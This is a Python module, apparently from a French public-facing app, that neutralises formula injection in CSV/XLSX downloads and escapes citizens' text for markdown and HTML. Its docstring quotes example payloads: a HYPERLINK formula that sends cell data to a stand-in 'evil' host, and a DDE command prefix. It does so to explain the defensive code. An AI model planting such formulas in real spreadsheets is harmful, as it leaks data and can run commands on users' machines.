"""Safe outputs: CSV/XLSX downloads that cannot run formulas, and escaping of citizens' text.

Message texts and author-chosen names are attacker-controlled. Opened in a spreadsheet, a
cell starting with ``=``, ``+``, ``-``, ``−``, ``@``, a tab or a carriage return can be read as
a formula (``=HYPERLINK("http://evil/?"&A1;"Cliquez")``, DDE ``=cmd|…``): OWASP "CSV
injection". Every export therefore goes through :func:`safe_frame`, which prefixes such cells
with ``'`` (shown literally, never evaluated). Every download of the app and the notebooks
uses :func:`to_csv_bytes` / :func:`to_xlsx_bytes` / :func:`write_csv`.

Rendered text: :func:`escape_markdown` for Streamlit markdown (no HTML, no link/image
injection), :func:`escape_html` for HTML built by hand; Jinja templates autoescape.
"""

from __future__ import annotations

import html
import io
import re
from pathlib import Path

import pandas as pd

# ASCII and the look-alikes spreadsheets also accept (true minus, full-width signs).
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "\u2212", "@", "\t", "\r", "\n",
                                     "\uff1d", "\uff0b", "\uff0d", "\uff20")
_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|~$:])")


def neutralise(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet could read as a formula.

    Leading spaces are looked through (``" =1+1"`` is evaluated by some spreadsheets).
    Numbers, dates and missing values are returned unchanged.
    """
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells and column names are neutralised (numbers untouched)."""
    out = df.copy()
    out.columns = [neutralise(str(c)) for c in out.columns]
    for c in out.columns:
        s = out[c]
        if s.dtype == object or pd.api.types.is_string_dtype(s) or isinstance(s.dtype, pd.CategoricalDtype):
            out[c] = s.astype(object).map(neutralise)
    return out


def to_csv_bytes(df: pd.DataFrame, *, sep: str = ";", decimal: str = ",") -> bytes:
    """CSV for a French spreadsheet (``;``, decimal comma, UTF-8 with BOM), formulas neutralised."""
    # CRLF rows: the csv writer then quotes any field holding a CR or LF. With "\n" rows a bare
    # CR inside a message is written unquoted and a spreadsheet starts a new row there, so
    # "'\r=1+1" would become a cell "=1+1" (found by the payload tests).
    return safe_frame(df).to_csv(index=False, sep=sep, decimal=decimal, lineterminator="\r\n").encode("utf-8-sig")


def write_csv(df: pd.DataFrame, path: str | Path, *, sep: str = ";", decimal: str = ",") -> Path:
    """Write :func:`to_csv_bytes` to ``path``."""
    p = Path(path)
    p.write_bytes(to_csv_bytes(df, sep=sep, decimal=decimal))
    return p


def to_xlsx_bytes(df: pd.DataFrame, sheet_name: str = "Données") -> bytes:
    """XLSX workbook, formulas neutralised and every text cell typed as a string.

    openpyxl stores any string starting with ``=`` as a formula: neutralising first is what
    keeps a citizen's ``=HYPERLINK(…)`` a piece of text.
    """
    safe = safe_frame(df)
    for c in safe.columns:  # Excel has no timezone-aware datetimes
        if isinstance(safe[c].dtype, pd.DatetimeTZDtype):
            safe[c] = safe[c].dt.tz_localize(None)
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as xw:
        safe.to_excel(xw, index=False, sheet_name=sheet_name[:31])
        ws = xw.sheets[sheet_name[:31]]
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    return buf.getvalue()


# GFM turns bare addresses into links *after* the markdown is parsed, on the text itself, so a
# backslash cannot stop it (found by the browser test of issue 20): a zero-width space inside
# "://", after "www" and after "@" does, and stays invisible to the reader.
_ZWSP = "\u200b"
_BARE_LINKS = ((re.compile(r"(?i)(?<=[a-z0-9]):(?=//)"), ":" + _ZWSP),
               (re.compile(r"(?i)\b(www)(?=\.)"), "\\1" + _ZWSP),
               (re.compile(r"@(?=[\w.-])"), "@" + _ZWSP))


def escape_markdown(text: object) -> str:
    """Any text safe inside Streamlit markdown, the app's one escaping helper: markup characters
    backslash-escaped, ``<``/``&`` as entities, bare web and e-mail addresses broken by an invisible
    zero-width space, so no HTML, link (explicit or automatic), image, heading, colour or icon
    directive can be injected. The reader sees the original text."""
    s = "" if text is None else str(text)
    for pattern, repl in _BARE_LINKS:
        s = pattern.sub(repl, s)
    s = _MD_SPECIAL.sub(r"\\\1", s)
    # Entities rather than backslashes for HTML: they stay text even with unsafe_allow_html.
    s = s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return s.replace("\n", "  \n")


def escape_html(text: object) -> str:
    """Text safe in HTML content and attribute values."""
    return html.escape("" if text is None else str(text), quote=True)
